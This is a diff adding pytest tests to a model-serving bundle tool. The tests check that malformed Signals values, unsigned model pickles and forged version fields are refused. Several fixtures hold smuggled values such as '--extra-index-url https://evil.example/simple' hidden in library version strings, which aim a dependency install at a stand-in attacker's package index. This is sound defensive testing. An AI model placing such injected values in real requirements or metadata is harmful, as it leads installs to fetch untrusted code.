@@ -27,12 +27,14 @@ from prospect_core import features
 from prospect_core.artifact import artifact_bytes, model_card, sha256_hex
 from prospect_core.explain import explain_row
 from prospect_core.model import ModelParams, TrainingRun, train_model
-from prospect_core.service_bundle import TEMPLATE, service_zip, write_service_folder
+from prospect_core.service_bundle import TEMPLATE, BundleError, service_zip, write_service_folder
 from prospect_core.signing import sign_card, signing_key
 from tests.signals_standin import SignalsStandIn
 from tests.test_model import SPEC, synthetic_training_set
 
 SERVICE_NAME = "prospect_scoring"
+HUGE = 10**400  # a float64 overflows past 308 digits
+UNREAD = {"huge": HUGE, "nan": math.nan, "list": [0] * 2_000_000}  # in an attribute the model does not read
 CANARY = "canary-" + secrets.token_hex(8)  # the Signals token: must never come back
 COLUMNS = features.feature_columns(SPEC)
 DISTINCT = {"num_sessions", "num_apps", "num_engaged_campaigns"}  # Signals keeps a unique_list
@@ -130,7 +132,7 @@ class Service:
 @pytest.fixture(scope="module")
 def bundle(exported: tuple[bytes, bytes], tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("bundle")
-    write_service_folder(folder, *exported, definitions())
+    write_service_folder(folder, *exported, definitions(), key=signing_key())
     return folder
 
 
@@ -142,6 +144,12 @@ def standin(run: TrainingRun) -> Iterator[SignalsStandIn]:
         prospects["user-1"][column] = None  # Signals has no value
     del prospects["user-2"]["num_page_views_l30d"]  # nor this attribute at all
     prospects["bad-type"] = {**prospects["user-3"], "num_page_pings_l7d": "many"}
+    # issue 21, finding 10: what a broken or hostile Signals may answer
+    prospects["huge-count"] = {**prospects["user-3"], "num_page_pings_l7d": HUGE}
+    prospects["nan-count"] = {**prospects["user-3"], "num_page_pings_l7d": math.nan}
+    prospects["nan-flag"] = {**prospects["user-3"], "had_conversions_l7d": math.nan}
+    for name, value in UNREAD.items():
+        prospects[f"unread-{name}"] = {**prospects["user-4"], "an_attribute_the_model_ignores": value}
     with SignalsStandIn(token=CANARY, service=SERVICE_NAME, attributes=[c for c in COLUMNS if c != "day_of_week"],
                         prospects=prospects) as server:
         yield server
@@ -246,11 +254,17 @@ def test_explanations_are_the_top_five_shap_values_and_add_up_to_the_log_odds(se
         ("/predict", {"domain_userid": "user-0", "extra": 1}, "extra"),
         ("/predict", {"domain_userid": "never-seen"}, "domain_userid: Signals has none of the model's attributes"),
         ("/predict", {"domain_userid": "bad-type"}, "Signals attribute 'num_page_pings_l7d' must be a whole number"),
+        ("/predict", {"domain_userid": "huge-count"},
+         "Signals attribute 'num_page_pings_l7d' must be a whole number from 0 to 1,000,000,000,000,000, got a number of 401 digits"),
+        ("/predict", {"domain_userid": "nan-count"}, "Signals attribute 'num_page_pings_l7d' must be a whole number"),
+        ("/predict", {"domain_userid": "nan-flag"}, "Signals attribute 'had_conversions_l7d' must be true or false, got nan"),
         ("/score", {}, "attributes"),
         ("/score", {"attributes": []}, "attributes"),
         ("/score", {"attributes": {"num_sessions_l7d": "three"}}, "attributes.num_sessions_l7d must be a whole number"),
         ("/score", {"attributes": {"num_sessions_l7d": -1}}, "attributes.num_sessions_l7d"),
         ("/score", {"attributes": {"num_sessions_l7d": 2.5}}, "attributes.num_sessions_l7d"),
+        ("/score", {"attributes": {"num_sessions_l7d": HUGE}}, "attributes.num_sessions_l7d must be a whole number from 0"),
+        ("/score", {"attributes": {"num_sessions_l7d": -HUGE}}, "got a number of 401 digits"),
         ("/score", {"attributes": {"had_conversions_l7d": 1}}, "attributes.had_conversions_l7d must be true or false"),
         ("/score", {"attributes": {"latest_app_id": 7}}, "attributes.latest_app_id must be a string"),
         ("/score", {"attributes": {"latest_app_id": "w" * 1_000_000}}, "got a string of 1,000,000 characters"),
@@ -263,6 +277,21 @@ def test_bad_payloads_get_a_422_naming_the_field(service: Service, path: str, pa
     detail = response.json()["detail"]
     assert named in detail
     assert len(response.content) < 2_000  # the bad value is described, never echoed
+
+
+@pytest.mark.parametrize("unread", UNREAD)
+def test_signals_values_the_model_does_not_read_never_reach_the_response(
+    service: Service, run: TrainingRun, unread: str
+) -> None:
+    """Issue 21, finding 10: the response was Signals' answer copied back, so NaN gave a 500 and a
+    2M-item list a 4 MB response. Now `signals` holds only the attributes the model reads, as inputs."""
+    response = service.client.post("/predict", json={"domain_userid": f"unread-{unread}"})
+    assert response.status_code == 200, response.text[:500]
+    body = response.json()
+    row = body["scoring_attributes"]
+    assert row == {**training_row(run, 4), "day_of_week": row["day_of_week"]}
+    assert body["signals"] == {"domain_userid": f"unread-{unread}", **{c: row[c] for c in COLUMNS if c != "day_of_week"}}
+    assert len(response.content) < 4_000, len(response.content)
 
 
 def test_a_body_over_2_mib_or_of_unstated_length_is_refused_before_it_is_read(service: Service) -> None:
@@ -392,8 +421,8 @@ def test_the_bundle_holds_the_files_and_pins_the_cards_versions(bundle: Path, ex
 
 
 def test_the_zip_holds_the_same_files_every_time(exported: tuple[bytes, bytes], bundle: Path) -> None:
-    data = service_zip(*exported)
-    assert data == service_zip(*exported)
+    data = service_zip(*exported, key=signing_key())
+    assert data == service_zip(*exported, key=signing_key())
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         names = archive.namelist()
         assert names == [f"prospect_scoring_service/{n}" for n in
@@ -418,8 +447,8 @@ def test_cli_service_finds_the_card_next_to_the_model(exported: tuple[bytes, byt
     ("setup", "message"),
     [
         ("no card", r"error: no model card next to model.joblib \(looked for model.joblib.card.json and model.card.json\)"),
-        ("other card", r"error: the model card does not belong to this model"),
-        ("not json", r"error: the model card is not JSON"),
+        ("other card", r"error: no service written: the signature does not match: the joblib file changed"),
+        ("not json", r"error: no service written: the model card is not JSON"),
     ],
 )
 def test_cli_service_refuses_a_card_that_is_not_the_models(
@@ -439,6 +468,89 @@ def test_cli_service_refuses_a_card_that_is_not_the_models(
     err = capsys.readouterr().err
     assert re.search(message, err), err
     assert not (tmp_path / "svc").exists()
+
+
+# ----- issue 21, finding 4: only a model this installation signed is bundled -------------------------
+
+
+def resigned(card_json: bytes, artifact: bytes, key: bytes | None, **libraries: str) -> bytes:
+    """The card with `libraries` changed, signed with `key` (None: unsigned)."""
+    card = json.loads(card_json)
+    card.pop("signature")
+    card["libraries"].update(libraries)
+    return json.dumps(sign_card(card, artifact, key) if key else card).encode()
+
+
+def run_cli_service(tmp_path: Path, artifact: bytes, card_json: bytes, capsys: pytest.CaptureFixture) -> tuple[int, str]:
+    from prospect_core.cli import main
+
+    (tmp_path / "model.joblib").write_bytes(artifact)
+    (tmp_path / "model.joblib.card.json").write_bytes(card_json)
+    code = main(["service", "--model", str(tmp_path / "model.joblib"), "--out", str(tmp_path / "svc")])
+    return code, capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("signer", "message"),
+    [
+        ("nobody", "error: no service written: the model card has no signature, so nothing proves this studio wrote the model"),
+        ("another installation", "error: no service written: the model was signed by another installation"),
+    ],
+)
+def test_cli_service_and_the_zip_refuse_a_card_this_installation_did_not_sign(
+    exported: tuple[bytes, bytes], tmp_path: Path, capsys: pytest.CaptureFixture, signer: str, message: str
+) -> None:
+    """The service `joblib.load`s the artifact, so bundling an unsigned pickle ran its code there."""
+    artifact, card_json = exported
+    card = resigned(card_json, artifact, None if signer == "nobody" else secrets.token_bytes(32))
+    code, err = run_cli_service(tmp_path, artifact, card, capsys)
+    assert code == 2 and err.startswith(message) and err.count("\n") == 1, err
+    assert not (tmp_path / "svc").exists()
+    with pytest.raises(BundleError, match=message.removeprefix("error: ")):
+        service_zip(artifact, card, key=signing_key())  # the app's download: the same check
+
+
+@pytest.mark.parametrize(
+    ("library", "version"),
+    [
+        ("xgboost", "3.2.0\n--extra-index-url https://evil.example/simple"),
+        ("numpy", "--extra-index-url https://evil.example/simple"),
+        ("scikit-learn", "1.5.2 ; python_version > '3'"),
+        ("pandas", "2.2.0+evil"),
+        ("python", "3.11\n--extra-index-url https://evil.example/simple"),  # the comment line
+        ("pandas", ""),
+    ],
+)
+def test_cli_service_refuses_a_signed_card_whose_versions_are_not_versions(
+    exported: tuple[bytes, bytes], tmp_path: Path, capsys: pytest.CaptureFixture, library: str, version: str
+) -> None:
+    artifact, card_json = exported
+    card = resigned(card_json, artifact, signing_key(), **{library: version})
+    code, err = run_cli_service(tmp_path, artifact, card, capsys)
+    assert code == 2 and err.count("\n") == 1, err
+    assert err.startswith(f"error: the model card's libraries.{library} is {version!r}; expected a version number such as 1.5.2")
+    assert not (tmp_path / "svc").exists()
+
+
+def test_requirements_are_the_template_whatever_else_the_card_lists(
+    exported: tuple[bytes, bytes], tmp_path: Path, capsys: pytest.CaptureFixture
+) -> None:
+    from importlib import metadata
+
+    artifact, card_json = exported
+    card = resigned(card_json, artifact, signing_key(), **{"--extra-index-url https://evil.example/simple": "1.0"})
+    assert run_cli_service(tmp_path, artifact, card, capsys)[0] == 0
+    versions = json.loads(card_json)["libraries"]
+    service = {name: metadata.version(name) for name in ("fastapi", "uvicorn", "snowplow-signals", "joblib")}
+    assert (tmp_path / "svc" / "requirements.txt").read_text() == (
+        f"# The versions that trained the model (its card), on Python {versions['python']}: the pickle needs them.\n"
+        f"scikit-learn=={versions['scikit-learn']}\nxgboost=={versions['xgboost']}\n"
+        f"pandas=={versions['pandas']}\nnumpy=={versions['numpy']}\n"
+        "# The service, at the versions the studio ran it with.\n"
+        f"fastapi=={service['fastapi']}\nuvicorn[standard]=={service['uvicorn']}\n"
+        f"snowplow-signals=={service['snowplow-signals']}\njoblib=={service['joblib']}\n"
+    )
+    assert "evil" not in (tmp_path / "svc" / "README.md").read_text()
 
 
 # ----- service.py's parts, in-process ----------------------------------------------------------------
